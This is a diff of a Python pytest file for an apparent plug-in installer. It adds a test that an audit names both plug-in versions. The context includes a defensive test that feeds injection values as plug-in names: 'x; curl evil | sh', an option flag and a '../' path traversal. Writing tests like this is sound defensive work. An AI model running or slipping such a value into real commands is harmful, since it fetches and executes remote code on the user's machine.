@@ -326,6 +326,15 @@ def test_another_spelling_of_the_distribution_is_the_same(install: Install, told
     told("status")
 
 
+def test_another_version_with_the_same_rules_plays_on_and_the_audit_names_both(
+    install: Install, told: Told
+) -> None:
+    game = install(version="1.2")
+    edited(founded(told, game), game, plugin={"name": "club-toy", "version": "1.0"})
+    told("status")
+    assert "of the plug-in club-toy 1.0; installed here is club-toy 1.2" in told("audit")
+
+
 @pytest.mark.parametrize("name", ["x; curl evil | sh", "-r evil", "../evil", "", "a b"])
 def test_what_the_save_calls_the_plug_in_is_no_command(
     name: str, install: Install, told: Told
